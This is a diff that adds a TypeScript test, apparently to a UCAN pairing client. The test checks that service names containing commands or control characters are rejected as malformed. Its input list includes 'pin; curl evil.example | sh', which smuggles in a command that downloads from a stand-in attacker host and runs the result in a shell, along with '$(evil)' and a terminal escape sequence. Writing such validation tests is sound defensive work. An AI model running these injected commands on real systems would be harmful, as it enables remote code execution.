@@ -148,4 +148,35 @@ describe('who stands between', () => {
     assert.deepEqual(states(), { 'jar/*': 'revoked', 'jarring/*': 'valid' })
     lie = undefined
   })
+
+  it('tells no services whose names are commands, and no name that is none', async () => {
+    const { ok } = await world.call(alice, { can: 'access/hello' })
+    const saying = (over: object) => (message: Uint8Array) => {
+      const [invocation] = admit(message, BOUNDS, new UcanMemory()).invocations as [Ucan]
+      return encodeReceipts([{ ran: invocation.cid, block: issueReceipt(world.signer, invocation.cid, { ok: { ...ok, ...over } }) }])
+    }
+    const named = (id: unknown) => ({ services: [{ id, about: '', abilities: [], limits: [] }] })
+    const pair = () => verdict(symbiont.pair(url).then(() => ({ ok: {} })))
+    lie = saying(named('pin-2'))
+    assert.equal(await pair(), 'ok')
+    for (const over of [
+      named('pin; curl evil.example | sh'),
+      named('pin\n'),
+      named('\u001b[2Jpin'),
+      named('$(evil)'),
+      named('Pin'),
+      named(''),
+      named(1),
+      named(null),
+      { services: null },
+      { services: [null] },
+      { services: 'pin' },
+      { name: 1 },
+      { name: null },
+    ]) {
+      lie = saying(over)
+      assert.equal(await pair(), 'Malformed', JSON.stringify(over))
+    }
+    lie = undefined
+  })
 })
